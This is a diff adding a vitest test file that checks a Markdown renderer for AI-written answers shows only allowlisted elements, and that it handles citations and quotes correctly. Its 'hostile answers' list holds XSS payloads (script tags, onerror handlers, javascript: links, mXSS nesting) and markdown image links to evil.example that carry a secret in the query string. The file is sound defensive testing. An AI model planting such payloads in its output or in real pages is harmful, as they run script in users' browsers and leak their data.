@@ -1,0 +1,96 @@
+// Whatever a model writes becomes elements of a short list, text elsewhere, and never anything that loads or leads away.
+import { render, h } from 'preact';
+import { describe, expect, test } from 'vitest';
+import { renderMarkdown } from '../lib/markdown.ts';
+import type { Quote } from '../lib/protocol.ts';
+
+const ALLOWED = new Set('P UL OL LI STRONG EM CODE PRE BLOCKQUOTE TABLE THEAD TBODY TR TH TD H4 HR BR SPAN DIV BUTTON'.split(' '));
+const ATTRIBUTES = new Set(['class', 'start', 'data-n']);
+
+function show(answer: string, quotes: Quote[] = [], blocks = 20): HTMLElement {
+  const root = document.createElement('div');
+  const inlines = {
+    cite: (n: number) => h('button', { class: 'cite', 'data-n': n }, n),
+    quote: (quote: Quote) => h('button', { class: quote.verified ? 'quote' : 'absent' }, quote.text),
+  };
+  render(h('div', null, renderMarkdown(answer, quotes, blocks, inlines)), root);
+  return root;
+}
+
+const quoteAt = (answer: string, text: string, verified = true): Quote => ({
+  text, verified, at: answer.indexOf(`"${text}"`), block: verified ? 1 : null, start: verified ? 0 : null, end: verified ? text.length : null,
+});
+
+describe('hostile answers', () => {
+  test.each([
+    '<img src=x onerror=alert(1)>',
+    '<script>alert(1)</script>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<iframe srcdoc="<script>1</script>"></iframe>',
+    '<svg><a xlink:href="javascript:1"><text>x</text></a></svg>',
+    '![a](https://evil.example/?q=secret)',
+    '![a][r]\n\n[r]: https://evil.example/x.png',
+    '[click](javascript:alert(1))',
+    '[click](data:text/html,<script>1</script>)',
+    '<https://evil.example/>',
+    'https://evil.example/autolink',
+    '[1]: https://evil.example\n\nSee [1]',
+    '- [ ] <input type=text autofocus onfocus=alert(1)>',
+    '| a |\n|---|\n| <img src=x onerror=1> |',
+    '```html\n<script>1</script>\n```',
+    '`<b onmouseover=1>`',
+    '> <style>*{display:none}</style>',
+    '# <object data=x>',
+    '~~<embed src=x>~~',
+    '\uE0000\uE001 \uE00099\uE001',
+    '<math><mtext><mglyph><style><img src=x onerror=1>',
+    '[[[[[[[[[[1]](x)](y)',
+  ])('%j shows only allowed elements', (answer) => {
+    for (const element of show(answer).querySelectorAll('*')) {
+      expect(ALLOWED).toContain(element.tagName);
+      for (const name of element.getAttributeNames()) expect(ATTRIBUTES).toContain(name);
+    }
+  });
+
+  test('HTML is shown as it was written', () => {
+    expect(show('a <b>b</b>').textContent).toBe('a <b>b</b>');
+  });
+
+  test('a link is text with its host', () => {
+    const root = show('[the bank](https://evil.example/login)');
+    expect(root.textContent).toBe('the bank (evil.example)');
+    expect(root.querySelector('a')).toBeNull();
+  });
+});
+
+describe('ordinary answers', () => {
+  test('paragraphs, lists, bold, code, tables and headings', () => {
+    const root = show('# Top\n\nA **b** *c* `d`\n\n3. x\n4. y\n\n| k | v |\n|---|---|\n| 1 | 2 |\n\n> q\n\n```\ncode\n```');
+    for (const tag of ['h4', 'p', 'strong', 'em', 'code', 'ol', 'table', 'blockquote', 'pre']) expect(root.querySelector(tag)).not.toBeNull();
+    expect(root.querySelector('ol')?.getAttribute('start')).toBe('3');
+  });
+
+  test('citations of blocks that exist become buttons, others stay text', () => {
+    const root = show('Yes [3], no [21], zero [0].', [], 20);
+    expect([...root.querySelectorAll('.cite')].map((cite) => cite.textContent)).toEqual(['3']);
+    expect(root.textContent).toBe('Yes 3, no [21], zero [0].');
+  });
+
+  test('quotes are taken by their place, and what they say is never Markdown', () => {
+    const answer = 'It says "a **b** [2] `c`" and "gone" [4].';
+    const root = show(answer, [quoteAt(answer, 'a **b** [2] `c`'), quoteAt(answer, 'gone', false)]);
+    expect(root.querySelector('.quote')?.textContent).toBe('a **b** [2] `c`');
+    expect(root.querySelector('.absent')?.textContent).toBe('gone');
+    expect(root.querySelector('strong')).toBeNull();
+    expect([...root.querySelectorAll('.cite')].map((cite) => cite.textContent)).toEqual(['4']);
+  });
+
+  test('a quote whose place does not fit is left as text', () => {
+    expect(show('Only "this".', [{ text: 'that', verified: true, at: 5, block: 1, start: 0, end: 4 }]).textContent).toBe('Only "this".');
+  });
+
+  test('in code, citations and quotes are plain characters', () => {
+    const answer = '`x[1] = "y"`';
+    expect(show(answer, [quoteAt(answer, 'y')]).textContent).toBe('x[1] = "y"');
+  });
+});
